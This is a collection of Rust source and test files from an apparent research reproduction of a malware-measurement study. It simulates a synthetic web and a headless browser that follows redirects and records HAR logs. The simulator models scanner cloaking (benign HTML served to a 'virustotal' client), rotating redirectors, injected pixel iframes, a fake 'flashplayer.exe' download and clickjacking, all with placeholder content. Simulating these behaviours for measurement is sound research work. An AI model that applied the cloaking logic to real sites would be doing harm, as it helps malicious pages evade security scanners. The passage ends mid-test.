        assert!(load.chain.iter().any(|h| h.kind == RedirectKind::Http));
    }

    #[test]
    fn shortener_hop_labelled() {
        let mut b = WebBuilder::new(102);
        let spec = b.shortened_site(Tld::Com, ContentCategory::Business);
        let web = b.finish();
        let load = Browser::new(&web).load(&spec.url);
        assert!(load.chain.iter().any(|h| h.kind == RedirectKind::Shortener));
        assert!(!load.failed);
    }

    #[test]
    fn dynamic_iframe_injection_observed() {
        let mut b = WebBuilder::new(103);
        let spec = b.js_site(
            JsAttack::DynamicIframe,
            Tld::Com,
            ContentCategory::Business,
            false,
        );
        let web = b.finish();
        let load = Browser::new(&web).load(&spec.url);
        assert!(load.js.errors.is_empty(), "{:?}", load.js.errors);
        let injected = load.injected_dom.expect("document.write output");
        let iframes = injected.iframes();
        assert_eq!(iframes.len(), 1);
        assert!(injected.is_pixel_iframe(iframes[0]));
    }

    #[test]
    fn deceptive_download_captured_on_click() {
        let mut b = WebBuilder::new(104);
        let spec = b.js_site(
            JsAttack::DeceptiveDownload,
            Tld::Com,
            ContentCategory::Entertainment,
            false,
        );
        let web = b.finish();
        let load = Browser::new(&web).load(&spec.url);
        assert_eq!(load.downloads.len(), 1);
        assert_eq!(load.downloads[0].filename, "flashplayer.exe");
    }

    #[test]
    fn flash_clickjack_opens_popups() {
        let mut b = WebBuilder::new(105);
        let spec = b.flash_site(Tld::Com, ContentCategory::Entertainment);
        let web = b.finish();
        let load = Browser::new(&web).load(&spec.url);
        assert_eq!(load.swf_movies.len(), 1);
        assert!(load.swf_movies[0].is_clickjack());
        assert!(!load.popups.is_empty(), "clickjack must open popup ads");
    }

    #[test]
    fn rotating_redirector_navigates_differently_per_time() {
        let mut b = WebBuilder::new(106);
        let spec = b.rotating_redirector_site(4, ContentCategory::Advertisement);
        let web = b.finish();
        let first = Browser::new(&web).at_time(0).load(&spec.url);
        let second = Browser::new(&web).at_time(1).load(&spec.url);
        assert!(first.was_redirected());
        assert!(second.was_redirected());
        assert_ne!(first.final_url, second.final_url, "rotator must vary destination");
        // Replaying the same instant lands on the same destination: the
        // rotation is a pure function of the clock, not of fetch order.
        let replay = Browser::new(&web).at_time(0).load(&spec.url);
        assert_eq!(replay.final_url, first.final_url);
    }

    #[test]
    fn hop_limit_detects_loops() {
        use slum_websim::build::WebBuilder;
        // Build a 2-cycle: a → b → a.
        let mut b = WebBuilder::new(107);
        let site = b.benign_site(BenignOptions::default());
        let web = b.finish();
        let _ = site;
        // No loop primitive in the builder; simulate via max_hops=0 on a
        // redirect site instead.
        let mut b2 = WebBuilder::new(108);
        let spec = b2.redirect_chain_site(5, Tld::Com, ContentCategory::Business);
        let web2 = b2.finish();
        let load = Browser::new(&web2).with_max_hops(2).load(&spec.url);
        assert!(load.failed);
        let _ = web;
    }

    #[test]
    fn cloaked_page_served_evil_to_browser() {
        let mut b = WebBuilder::new(109);
        let spec = b.malicious_site(MaliciousOptions {
            kind: Some(MaliceKind::Misc),
            cloaked: Some(true),
            ..Default::default()
        });
        let web = b.finish();
        let browser_load = Browser::new(&web).load(&spec.url);
        assert!(browser_load.html.unwrap().contains("generic-trojan-dropper"));
        let scanner_load = Browser::new(&web)
            .with_context(RequestContext::scanner("virustotal"))
            .load(&spec.url);
        assert!(!scanner_load.html.unwrap().contains("generic-trojan-dropper"));
    }

    #[test]
    fn har_records_subresources() {
        let mut b = WebBuilder::new(110);
        let spec = b.flash_site(Tld::Com, ContentCategory::Entertainment);
        let web = b.finish();
        let load = Browser::new(&web).at_time(777).load(&spec.url);
        assert!(load.har.len() >= 3, "page + swf + glue script");
        assert!(load.har.entries.iter().all(|e| e.started == 777));
        assert!(load
            .har
            .entries
            .iter()
            .any(|e| e.content_type == "application/x-shockwave-flash"));
    }

    #[test]
    fn missing_url_fails_cleanly() {
        let b = WebBuilder::new(111);
        let web = b.finish();
        let load = Browser::new(&web).load(&Url::http("ghost.example.com", "/"));
        assert!(load.failed);
        assert_eq!(load.har.status_chain(), vec![404]);
    }

    #[test]
    fn resolve_href_variants() {
        let page = Url::http("site.example.com", "/dir/page");
        assert_eq!(
            resolve_href(&page, "http://other.example/x").unwrap().host(),
            "other.example"
        );
        assert_eq!(resolve_href(&page, "/abs/path").unwrap().to_string(), "http://site.example.com/abs/path");
        assert_eq!(resolve_href(&page, "rel.js").unwrap().to_string(), "http://site.example.com/rel.js");
        assert!(resolve_href(&page, "data:text/html,x").unwrap().is_data());
    }

    #[test]
    fn without_click_suppresses_flash_clickjack() {
        let mut b = WebBuilder::new(112);
        let spec = b.flash_site(Tld::Com, ContentCategory::Entertainment);
        let web = b.finish();
        let load = Browser::new(&web).without_click().load(&spec.url);
        // No click → the full-page movie's onclick never fires → no popups.
        assert!(load.popups.is_empty());
        assert_eq!(load.swf_movies.len(), 1);
    }
}
