//! HTTP Archive (HAR) logging.
//!
//! The paper captured traffic with Firebug + NetExport, which emits HAR —
//! a JSON format. The crawler stores one [`HarLog`] per page load; this
//! module provides the subset of HAR 1.2 the analysis consumes plus JSON
//! serialization via serde.

use serde::{Deserialize, Serialize};

/// One request/response pair.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HarEntry {
    /// Virtual timestamp (seconds since simulation epoch).
    #[serde(rename = "startedDateTime")]
    pub started: u64,
    /// Request method (always GET in this simulation).
    pub method: String,
    /// Request URL.
    pub url: String,
    /// Response status code (200/301/302/404).
    pub status: u16,
    /// Response content type.
    #[serde(rename = "contentType")]
    pub content_type: String,
    /// `Location` header for redirects, empty otherwise.
    #[serde(rename = "redirectURL")]
    pub redirect_url: String,
    /// Response body size in bytes (post-cloaking, i.e. what the client
    /// actually received).
    #[serde(rename = "bodySize")]
    pub body_size: u64,
    /// Referrer sent with the request, empty if none.
    pub referrer: String,
}

/// An ordered HAR log for one page load.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct HarLog {
    /// Entries in request order.
    pub entries: Vec<HarEntry>,
}

impl HarLog {
    /// Creates an empty log.
    pub fn new() -> Self {
        HarLog::default()
    }

    /// Appends an entry.
    pub fn push(&mut self, entry: HarEntry) {
        self.entries.push(entry);
    }

    /// Number of entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// True when no requests were recorded.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Serializes to HAR-shaped JSON (`{"log": {"entries": [...]}}`).
    ///
    /// # Errors
    ///
    /// Propagates `serde_json` failures (practically unreachable for
    /// these value types).
    pub fn to_json(&self) -> Result<String, serde_json::Error> {
        #[derive(Serialize)]
        struct Root<'a> {
            log: Log<'a>,
        }
        #[derive(Serialize)]
        struct Log<'a> {
            version: &'static str,
            creator: &'static str,
            entries: &'a [HarEntry],
        }
        serde_json::to_string(&Root {
            log: Log { version: "1.2", creator: "slum-browser", entries: &self.entries },
        })
    }

    /// Parses a log serialized by [`HarLog::to_json`].
    ///
    /// # Errors
    ///
    /// Fails on malformed JSON or missing fields.
    pub fn from_json(json: &str) -> Result<HarLog, serde_json::Error> {
        #[derive(Deserialize)]
        struct Root {
            log: Log,
        }
        #[derive(Deserialize)]
        struct Log {
            entries: Vec<HarEntry>,
        }
        let root: Root = serde_json::from_str(json)?;
        Ok(HarLog { entries: root.log.entries })
    }

    /// The status codes in request order — a quick fingerprint of the
    /// redirect chain shape.
    pub fn status_chain(&self) -> Vec<u16> {
        self.entries.iter().map(|e| e.status).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(url: &str, status: u16) -> HarEntry {
        HarEntry {
            started: 100,
            method: "GET".into(),
            url: url.into(),
            status,
            content_type: "text/html".into(),
            redirect_url: String::new(),
            body_size: 1234,
            referrer: String::new(),
        }
    }

    #[test]
    fn json_round_trip() {
        let mut log = HarLog::new();
        log.push(entry("http://a.example/", 302));
        log.push(entry("http://b.example/", 200));
        let json = log.to_json().unwrap();
        assert!(json.contains("\"version\":\"1.2\""));
        let back = HarLog::from_json(&json).unwrap();
        assert_eq!(back, log);
    }

    #[test]
    fn status_chain_shape() {
        let mut log = HarLog::new();
        for s in [302, 302, 200] {
            log.push(entry("http://x.example/", s));
        }
        assert_eq!(log.status_chain(), vec![302, 302, 200]);
    }

    #[test]
    fn empty_log_serializes() {
        let log = HarLog::new();
        assert!(log.is_empty());
        let back = HarLog::from_json(&log.to_json().unwrap()).unwrap();
        assert!(back.is_empty());
    }

    #[test]
    fn malformed_json_errors() {
        assert!(HarLog::from_json("{").is_err());
        assert!(HarLog::from_json("{\"nolog\": 1}").is_err());
    }
}
