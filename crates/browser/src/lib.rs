//! # slum-browser
//!
//! A headless mini-browser over the [`slum_websim::SyntheticWeb`]
//! substrate, reproducing the measurement client of *Malware Slums*
//! (DSN 2016): Firefox + Firebug + NetExport. Loading a URL follows
//! HTTP 302 chains, meta refreshes and JavaScript `location`
//! navigations; parses the final page into a DOM; executes inline and
//! external scripts in the [`slum_js`] sandbox; simulates a user click
//! (exposing click-hijacking Flash movies and deceptive download
//! prompts); and records everything — including an HTTP Archive (HAR)
//! log, the format the paper's NetExport extension emitted.
//!
//! ## Example
//!
//! ```
//! use slum_browser::Browser;
//! use slum_websim::build::WebBuilder;
//!
//! let mut builder = WebBuilder::new(7);
//! let site = builder.benign_site(Default::default());
//! let web = builder.finish();
//!
//! let browser = Browser::new(&web);
//! let load = browser.load(&site.url);
//! assert_eq!(load.final_url, site.url);
//! assert!(load.dom.is_some());
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod har;
pub mod session;

pub use har::{HarEntry, HarLog};
pub use session::{Browser, Download, LoadResult, RedirectHop, RedirectKind};
