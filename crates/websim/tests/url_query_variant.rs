//! Regression test: `http://host?query` (no path) must parse with a root
//! path and the query intact.

use slum_websim::Url;

#[test]
fn query_without_path_parses() {
    let u = Url::parse("http://a.aa?0=").unwrap();
    assert_eq!(u.host(), "a.aa");
    assert_eq!(u.path(), "/");
    assert_eq!(u.query(), Some("0="));
    assert_eq!(u.to_string(), "http://a.aa/?0=");
}

#[test]
fn query_without_path_round_trips() {
    let u = Url::parse("http://a.aa?x=1&y=2").unwrap();
    let re = Url::parse(&u.to_string()).unwrap();
    assert_eq!(u, re);
}
