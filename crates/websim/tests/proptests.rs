//! Property tests for the synthetic-web substrate: URL invariants,
//! domain computation, generator determinism, shortener accounting.

use proptest::prelude::*;
use slum_websim::build::{BenignOptions, MaliciousOptions, WebBuilder};
use slum_websim::domain::registered_domain;
use slum_websim::rng::{heavy_tail, path_token, pick_weighted, seeded};
use slum_websim::shortener::ShortenerService;
use slum_websim::{RequestContext, Url};

proptest! {
    /// Url::parse is total over arbitrary strings.
    #[test]
    fn url_parse_is_total(s in ".{0,200}") {
        let _ = Url::parse(&s);
    }

    /// Display → parse is the identity for URLs built from valid parts.
    #[test]
    fn url_display_round_trip(
        host in "[a-z][a-z0-9-]{0,20}(\\.[a-z][a-z0-9-]{1,10}){1,3}",
        path in "(/[a-zA-Z0-9._-]{0,12}){0,4}",
        query in "([a-z0-9]{1,8}=[a-zA-Z0-9]{0,8}(&[a-z0-9]{1,8}=[a-zA-Z0-9]{0,8}){0,3})?",
    ) {
        let text = if query.is_empty() {
            format!("http://{host}{path}")
        } else {
            format!("http://{host}{path}?{query}")
        };
        let url = Url::parse(&text).expect("valid by construction");
        let re = Url::parse(&url.to_string()).expect("display must re-parse");
        prop_assert_eq!(url, re);
    }

    /// The registered domain is always a dot-suffix of the host and has
    /// at most 3 labels.
    #[test]
    fn registered_domain_invariants(host in "[a-z][a-z0-9-]{0,10}(\\.[a-z][a-z0-9]{1,8}){0,4}") {
        let domain = registered_domain(&host);
        let suffix = format!(".{}", domain);
        let is_suffix = host == domain || host.ends_with(&suffix);
        prop_assert!(is_suffix, "{} not a suffix of {}", domain, host);
        prop_assert!(domain.split('.').count() <= 3);
    }

    /// Weighted picking always returns a valid index with positive
    /// weight.
    #[test]
    fn pick_weighted_valid(weights in proptest::collection::vec(0.0f64..10.0, 1..20), seed in 0u64..1000) {
        prop_assume!(weights.iter().sum::<f64>() > 0.0);
        let mut rng = seeded(seed);
        let idx = pick_weighted(&mut rng, &weights);
        prop_assert!(idx < weights.len());
        // Zero-weight entries are never picked when alternatives exist.
        if weights[idx] == 0.0 {
            prop_assert!(weights.iter().all(|w| *w == 0.0));
        }
    }

    /// Heavy-tail samples stay in range.
    #[test]
    fn heavy_tail_in_range(seed in 0u64..500, min in 1u64..1000, span in 2u64..1_000_000) {
        let max = min + span;
        let mut rng = seeded(seed);
        let v = heavy_tail(&mut rng, min, max);
        prop_assert!((min..=max).contains(&v));
    }

    /// Path tokens are URL-safe.
    #[test]
    fn path_tokens_are_url_safe(seed in 0u64..200, len in 0usize..40) {
        let mut rng = seeded(seed);
        let token = path_token(&mut rng, len);
        prop_assert_eq!(token.len(), len);
        prop_assert!(token.chars().all(|c| c.is_ascii_alphanumeric()));
    }

    /// The builder is deterministic: identical seeds and call sequences
    /// produce identical site URLs.
    #[test]
    fn builder_deterministic(seed in 0u64..300, n in 1usize..10) {
        let run = |seed| {
            let mut b = WebBuilder::new(seed);
            (0..n)
                .map(|i| {
                    if i % 2 == 0 {
                        b.benign_site(BenignOptions::default()).url.to_string()
                    } else {
                        b.malicious_site(MaliciousOptions::default()).url.to_string()
                    }
                })
                .collect::<Vec<_>>()
        };
        prop_assert_eq!(run(seed), run(seed));
    }

    /// Every generated site is fetchable by a browser and serves HTML or
    /// a redirect (never a 404).
    #[test]
    fn generated_sites_are_reachable(seed in 0u64..200) {
        let mut b = WebBuilder::new(seed);
        let benign = b.benign_site(BenignOptions::default());
        let malicious = b.malicious_site(MaliciousOptions::default());
        let web = b.finish();
        for spec in [benign, malicious] {
            let out = web.fetch(&spec.url, &RequestContext::browser());
            prop_assert!(
                !matches!(out, slum_websim::FetchOutcome::NotFound),
                "{} unreachable", spec.url
            );
        }
    }

    /// Shortener hit accounting: hits equal the number of browser
    /// resolutions; long-URL hits aggregate monotonically.
    #[test]
    fn shortener_hits_exact(n_codes in 1usize..5, visits in proptest::collection::vec(0usize..20, 1..5)) {
        let svc = ShortenerService::new("goo.gl");
        let target = Url::http("landing.example.com", "/");
        let codes: Vec<String> = (0..n_codes).map(|i| format!("code{i}")).collect();
        for code in &codes {
            svc.register(code, target.clone());
        }
        let mut expected_total = 0u64;
        for (i, &v) in visits.iter().enumerate() {
            let code = &codes[i % n_codes];
            for _ in 0..v {
                svc.resolve(code, "USA", "ref.example");
            }
            expected_total += v as u64;
        }
        prop_assert_eq!(svc.long_url_hits(&target), expected_total);
    }
}
