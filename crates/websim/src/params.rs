//! Calibration constants taken from the paper's published numbers.
//!
//! These drive the generators so the reproduction's *pipeline output*
//! matches the paper's shape. Each constant cites the table/figure it
//! comes from.

use crate::content::ContentCategory;
use crate::domain::Tld;

/// Figure 6: distribution of malicious URLs across TLDs.
/// `(tld, weight)` — com 70%, net 22%, de 2%, org 1%, others 5%.
pub fn malicious_tld_mix() -> Vec<(Tld, f64)> {
    vec![
        (Tld::Com, 0.70),
        (Tld::Net, 0.22),
        (Tld::De, 0.02),
        (Tld::Org, 0.01),
        // Representative "others": free hosts, ccTLDs and novelty TLDs
        // the paper names (esy.es, atw.hu, yadro.ru, company.ooo).
        (Tld::Other("ru".into()), 0.02),
        (Tld::Other("es".into()), 0.01),
        (Tld::Other("hu".into()), 0.01),
        (Tld::Other("ooo".into()), 0.01),
    ]
}

/// Benign-site TLD mix (not reported by the paper; chosen close to the
/// 2015 web at large so Figure 6 is driven by the malicious mix).
pub fn benign_tld_mix() -> Vec<(Tld, f64)> {
    vec![
        (Tld::Com, 0.62),
        (Tld::Net, 0.12),
        (Tld::Org, 0.08),
        (Tld::De, 0.05),
        (Tld::Other("ru".into()), 0.05),
        (Tld::Other("br".into()), 0.04),
        (Tld::Other("info".into()), 0.04),
    ]
}

/// Figure 7: content-category mix of malicious URLs.
pub fn malicious_category_mix() -> Vec<(ContentCategory, f64)> {
    ContentCategory::ALL.iter().map(|c| (*c, c.paper_share())).collect()
}

/// Table III: malware category mix among *categorized* malicious URLs
/// (the table excludes the miscellaneous bucket):
/// blacklisted 74.8%, JS 18.8%, redirection 5.8%, shortened 0.5%, flash 0.1%.
pub struct MalwareCategoryMix {
    /// Blacklisted share among categorized malware.
    pub blacklisted: f64,
    /// Malicious JavaScript share.
    pub malicious_js: f64,
    /// Suspicious redirection share.
    pub suspicious_redirect: f64,
    /// Malicious shortened-URL share.
    pub malicious_shortened: f64,
    /// Malicious Flash share.
    pub malicious_flash: f64,
    /// Fraction of *all* malicious URLs that end up uncategorized
    /// (§IV-A: 142,405 of 214,527 ≈ 66.4%).
    pub misc_fraction: f64,
}

/// The paper's Table III mix.
pub fn malware_category_mix() -> MalwareCategoryMix {
    MalwareCategoryMix {
        blacklisted: 0.748,
        malicious_js: 0.188,
        suspicious_redirect: 0.058,
        malicious_shortened: 0.005,
        malicious_flash: 0.001,
        misc_fraction: 142_405.0 / 214_527.0,
    }
}

/// Figure 5: URL redirection-count histogram. Counts for 1..=7
/// redirections, read off the paper's bar chart (mode at 1, long tail to
/// 7).
pub const REDIRECT_COUNT_HISTOGRAM: [(u32, f64); 7] = [
    (1, 1900.0),
    (2, 1050.0),
    (3, 550.0),
    (4, 300.0),
    (5, 150.0),
    (6, 80.0),
    (7, 40.0),
];

/// Countries the paper lists as supplying exchange traffic (§II-A) and
/// appearing as top visitor countries in Table IV, with rough visit
/// weights (USA dominates Table IV's top-country column).
pub const VISITOR_COUNTRIES: [(&str, f64); 10] = [
    ("USA", 0.42),
    ("India", 0.12),
    ("Brazil", 0.10),
    ("Pakistan", 0.08),
    ("Russia", 0.07),
    ("Egypt", 0.06),
    ("Mexico", 0.05),
    ("Malaysia", 0.04),
    ("Iran", 0.03),
    ("Portugal", 0.03),
];

/// Obfuscation: fraction of malicious-JS payloads that ship packed, and
/// the layer range. §IV-A1 notes "some" snippets were obfuscated enough
/// to require VM execution.
pub const OBFUSCATED_JS_FRACTION: f64 = 0.45;
/// Maximum packer nesting the generator emits.
pub const MAX_OBFUSCATION_LAYERS: u32 = 3;

/// Cloaking: fraction of malicious pages that cloak themselves from
/// URL-based scanning (§III fn. 1 confirms the behaviour exists in a
/// pilot; prevalence is ours).
pub const CLOAKED_FRACTION: f64 = 0.15;

/// Shortened-URL hit-count range (Table IV spans 1,752 .. 4,452,525).
pub const SHORTENER_HITS_MIN: u64 = 1_700;
/// Upper bound of shortened-URL organic hit counts.
pub const SHORTENER_HITS_MAX: u64 = 4_500_000;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tld_mixes_sum_to_one() {
        for mix in [malicious_tld_mix(), benign_tld_mix()] {
            let total: f64 = mix.iter().map(|(_, w)| w).sum();
            assert!((total - 1.0).abs() < 1e-9, "sum {total}");
        }
    }

    #[test]
    fn category_mix_sums_to_one_modulo_paper_rounding() {
        // Figure 7's published shares sum to 100.3% (rounding in the
        // original); the sampler normalizes internally.
        let total: f64 = malicious_category_mix().iter().map(|(_, w)| w).sum();
        assert!((total - 1.0).abs() < 0.005);
    }

    #[test]
    fn malware_mix_matches_table3() {
        let m = malware_category_mix();
        let sum = m.blacklisted + m.malicious_js + m.suspicious_redirect
            + m.malicious_shortened
            + m.malicious_flash;
        assert!((sum - 1.0).abs() < 1e-9);
        assert!(m.misc_fraction > 0.6 && m.misc_fraction < 0.7);
        // Ordering from Table III.
        assert!(m.blacklisted > m.malicious_js);
        assert!(m.malicious_js > m.suspicious_redirect);
        assert!(m.suspicious_redirect > m.malicious_shortened);
        assert!(m.malicious_shortened > m.malicious_flash);
    }

    #[test]
    fn redirect_histogram_is_monotone_decreasing() {
        for w in REDIRECT_COUNT_HISTOGRAM.windows(2) {
            assert!(w[0].1 > w[1].1, "histogram must decrease: {w:?}");
        }
        assert_eq!(REDIRECT_COUNT_HISTOGRAM[0].0, 1);
        assert_eq!(REDIRECT_COUNT_HISTOGRAM[6].0, 7);
    }

    #[test]
    fn country_weights_sum_to_one() {
        let total: f64 = VISITOR_COUNTRIES.iter().map(|(_, w)| w).sum();
        assert!((total - 1.0).abs() < 1e-9);
        assert_eq!(VISITOR_COUNTRIES[0].0, "USA");
    }
}
