//! The synthetic web server: URL → resource resolution with
//! client-sensitive behaviour (cloaking, rotating redirects, shortener
//! hit accounting).

use std::collections::HashMap;

use crate::page::Page;
use crate::shortener::ShortenerRegistry;
use crate::url::Url;

/// Who is making a request. Cloaked pages serve different content to
/// scanner APIs than to real browsers — the evasion the paper defeats by
/// uploading browser-captured page content to the scanners (§III fn. 1).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ClientKind {
    /// A real browser with the given user-agent string.
    Browser {
        /// User-agent header value.
        user_agent: String,
    },
    /// A malware-scanning service fetching the URL itself.
    ScannerApi {
        /// Scanner name (e.g. `"virustotal"`).
        service: String,
    },
}

/// Per-request context: client identity plus attribution metadata used
/// by shortener statistics.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RequestContext {
    /// Who is asking.
    pub client: ClientKind,
    /// Visitor country (shortener stats attribution).
    pub country: String,
    /// Referrer domain, empty for direct navigation.
    pub referrer: String,
    /// Virtual request time in seconds. Time-sensitive resources (the
    /// rotating redirector) key their behaviour to this clock, so a
    /// fetch is a pure function of `(url, context)` — replayable across
    /// checkpoint/resume boundaries and worker counts.
    pub time: u64,
}

impl RequestContext {
    /// A default real-browser context (US visitor, no referrer).
    pub fn browser() -> Self {
        RequestContext {
            client: ClientKind::Browser {
                user_agent: "Mozilla/5.0 (X11; Linux x86_64; rv:38.0) Gecko/20100101 Firefox/38.0"
                    .into(),
            },
            country: "USA".into(),
            referrer: String::new(),
            time: 0,
        }
    }

    /// A scanner-API context for the named service.
    pub fn scanner(service: impl Into<String>) -> Self {
        RequestContext {
            client: ClientKind::ScannerApi { service: service.into() },
            country: "USA".into(),
            referrer: String::new(),
            time: 0,
        }
    }

    /// Sets the visitor country.
    pub fn with_country(mut self, country: impl Into<String>) -> Self {
        self.country = country.into();
        self
    }

    /// Sets the referrer domain.
    pub fn with_referrer(mut self, referrer: impl Into<String>) -> Self {
        self.referrer = referrer.into();
        self
    }

    /// Sets the virtual request time.
    pub fn with_time(mut self, time: u64) -> Self {
        self.time = time;
        self
    }

    /// True when the requester is a scanner API.
    pub fn is_scanner(&self) -> bool {
        matches!(self.client, ClientKind::ScannerApi { .. })
    }
}

/// A resource installed at a URL.
#[derive(Debug)]
pub enum Resource {
    /// An HTML page.
    Page(Page),
    /// An HTTP 302 redirect.
    Redirect {
        /// Where the redirect points.
        target: Url,
    },
    /// A redirect implemented as an HTML meta refresh (final hop of the
    /// paper's Figure 4 chain).
    MetaRefresh {
        /// Where the refresh points.
        target: Url,
    },
    /// A server-side rotating redirector: each fetch 302s to the cycle
    /// entry keyed by the request clock (the `company.ooo` pattern,
    /// §V-C). Clock-keyed rather than counter-keyed so a fetch stays a
    /// pure function of `(url, context)` — visits replay identically
    /// across checkpoint/resume boundaries and worker counts.
    RotatingRedirect {
        /// Destination cycle.
        targets: Vec<Url>,
    },
    /// A JavaScript file.
    Script {
        /// JS source body.
        body: String,
    },
    /// An SWF descriptor file (see [`slum_js::flash`]).
    Swf {
        /// Descriptor text.
        descriptor: String,
    },
    /// An executable download.
    Executable {
        /// File name offered to the user (e.g. `flashplayer.exe`).
        filename: String,
    },
}

/// What a fetch returned.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FetchOutcome {
    /// 200 with an HTML body.
    Html {
        /// The body markup.
        body: String,
    },
    /// 30x redirect.
    Redirect {
        /// `Location` header target.
        target: Url,
        /// HTTP status (301/302).
        status: u16,
    },
    /// 200 with a JavaScript body.
    Script {
        /// The script source.
        body: String,
    },
    /// 200 with an SWF descriptor body.
    Swf {
        /// The descriptor text.
        descriptor: String,
    },
    /// 200 triggering a file download.
    Download {
        /// Offered file name.
        filename: String,
    },
    /// 404.
    NotFound,
}

impl FetchOutcome {
    /// True for HTML responses.
    pub fn is_html(&self) -> bool {
        matches!(self, FetchOutcome::Html { .. })
    }

    /// The redirect target, if this is a redirect.
    pub fn redirect_target(&self) -> Option<&Url> {
        match self {
            FetchOutcome::Redirect { target, .. } => Some(target),
            _ => None,
        }
    }
}

/// The whole synthetic web: a routing table plus the shortener registry.
///
/// Built once by [`crate::build::WebBuilder`], then shared immutably
/// across crawler threads (interior mutability covers rotation cursors
/// and shortener statistics).
#[derive(Debug)]
pub struct SyntheticWeb {
    routes: HashMap<String, Resource>,
    shorteners: ShortenerRegistry,
}

impl SyntheticWeb {
    pub(crate) fn new(routes: HashMap<String, Resource>, shorteners: ShortenerRegistry) -> Self {
        SyntheticWeb { routes, shorteners }
    }

    /// Number of installed resources.
    pub fn len(&self) -> usize {
        self.routes.len()
    }

    /// True when no resources are installed.
    pub fn is_empty(&self) -> bool {
        self.routes.is_empty()
    }

    /// The shortener registry (public statistics access).
    pub fn shorteners(&self) -> &ShortenerRegistry {
        &self.shorteners
    }

    /// Looks up the page installed at `url`, with its ground truth —
    /// the simulation oracle, not reachable through `fetch`.
    pub fn oracle_page(&self, url: &Url) -> Option<&Page> {
        match self.routes.get(&route_key(url)) {
            Some(Resource::Page(p)) => Some(p),
            _ => None,
        }
    }

    /// Iterates over all installed pages (oracle access).
    pub fn oracle_pages(&self) -> impl Iterator<Item = &Page> {
        self.routes.values().filter_map(|r| match r {
            Resource::Page(p) => Some(p),
            _ => None,
        })
    }

    /// Fetches `url` as `ctx`. This is the only path the crawler and the
    /// scanners use; all client-sensitive behaviour funnels through here.
    pub fn fetch(&self, url: &Url, ctx: &RequestContext) -> FetchOutcome {
        // Shortening services resolve through their registry so that hits
        // are recorded per Table IV semantics.
        if self.shorteners.is_shortener_host(url.host()) {
            let code = url.path().trim_start_matches('/');
            let svc = self.shorteners.service(url.host()).expect("host checked");
            let resolved = if ctx.is_scanner() {
                // Scanner resolutions are not organic traffic.
                svc.peek(code)
            } else {
                svc.resolve(code, &ctx.country, &ctx.referrer)
            };
            return match resolved {
                Some(target) => FetchOutcome::Redirect { target, status: 301 },
                None => FetchOutcome::NotFound,
            };
        }

        match self.routes.get(&route_key(url)) {
            None => FetchOutcome::NotFound,
            Some(Resource::Page(page)) => {
                let body = match (&page.cloaked_benign_html, ctx.is_scanner()) {
                    (Some(benign), true) => benign.clone(),
                    _ => page.html.clone(),
                };
                FetchOutcome::Html { body }
            }
            Some(Resource::Redirect { target }) => {
                FetchOutcome::Redirect { target: target.clone(), status: 302 }
            }
            Some(Resource::MetaRefresh { target }) => FetchOutcome::Html {
                body: crate::payload::meta_refresh_page(target),
            },
            Some(Resource::RotatingRedirect { targets }) => {
                let i = ctx.time as usize % targets.len();
                FetchOutcome::Redirect { target: targets[i].clone(), status: 302 }
            }
            Some(Resource::Script { body }) => FetchOutcome::Script { body: body.clone() },
            Some(Resource::Swf { descriptor }) => {
                FetchOutcome::Swf { descriptor: descriptor.clone() }
            }
            Some(Resource::Executable { filename }) => {
                FetchOutcome::Download { filename: filename.clone() }
            }
        }
    }
}

/// Canonical routing key: host + path (query ignored so one installed
/// page serves all its query variants, matching how exchange listings
/// append tracking parameters).
pub(crate) fn route_key(url: &Url) -> String {
    format!("{}{}", url.host(), url.path())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::content::ContentCategory;
    use crate::page::{MaliceKind, Page};

    fn single_page_web(page: Page) -> SyntheticWeb {
        let mut routes = HashMap::new();
        routes.insert(route_key(&page.url), Resource::Page(page));
        SyntheticWeb::new(routes, ShortenerRegistry::with_standard_services())
    }

    #[test]
    fn fetch_html_page() {
        let url = Url::http("site.example.com", "/");
        let web = single_page_web(Page::benign(
            url.clone(),
            "<html>hello</html>".into(),
            ContentCategory::Business,
        ));
        let out = web.fetch(&url, &RequestContext::browser());
        assert_eq!(out, FetchOutcome::Html { body: "<html>hello</html>".into() });
    }

    #[test]
    fn missing_url_is_404() {
        let web = single_page_web(Page::benign(
            Url::http("a.example.com", "/"),
            String::new(),
            ContentCategory::Other,
        ));
        let out = web.fetch(&Url::http("other.example.com", "/"), &RequestContext::browser());
        assert_eq!(out, FetchOutcome::NotFound);
    }

    #[test]
    fn query_variants_hit_same_route() {
        let url = Url::http("site.example.com", "/page");
        let web = single_page_web(Page::benign(url.clone(), "body".into(), ContentCategory::Other));
        let with_query = Url::parse("http://site.example.com/page?ref=10khits&sid=99").unwrap();
        assert!(web.fetch(&with_query, &RequestContext::browser()).is_html());
    }

    #[test]
    fn cloaked_page_serves_benign_to_scanner() {
        let url = Url::http("cloaky.example.com", "/");
        let page = Page::malicious(
            url.clone(),
            "<html>EVIL</html>".into(),
            MaliceKind::Misc,
            ContentCategory::Business,
        )
        .with_cloak("<html>innocent</html>".into());
        let web = single_page_web(page);

        let browser_view = web.fetch(&url, &RequestContext::browser());
        let scanner_view = web.fetch(&url, &RequestContext::scanner("virustotal"));
        assert_eq!(browser_view, FetchOutcome::Html { body: "<html>EVIL</html>".into() });
        assert_eq!(scanner_view, FetchOutcome::Html { body: "<html>innocent</html>".into() });
    }

    #[test]
    fn rotating_redirect_cycles() {
        let mut routes = HashMap::new();
        let targets: Vec<Url> =
            (0..3).map(|i| Url::http(&format!("dest{i}.example.com"), "/")).collect();
        let url = Url::http("company.ooo", "/tfjw2pmk.php");
        routes.insert(
            route_key(&url),
            Resource::RotatingRedirect { targets: targets.clone() },
        );
        let web = SyntheticWeb::new(routes, ShortenerRegistry::with_standard_services());
        let at = |t: u64| {
            let ctx = RequestContext::browser().with_time(t);
            web.fetch(&url, &ctx).redirect_target().cloned().unwrap()
        };
        assert_eq!(at(0), targets[0]);
        assert_eq!(at(1), targets[1]);
        assert_eq!(at(2), targets[2]);
        assert_eq!(at(3), targets[0], "cycle wraps");
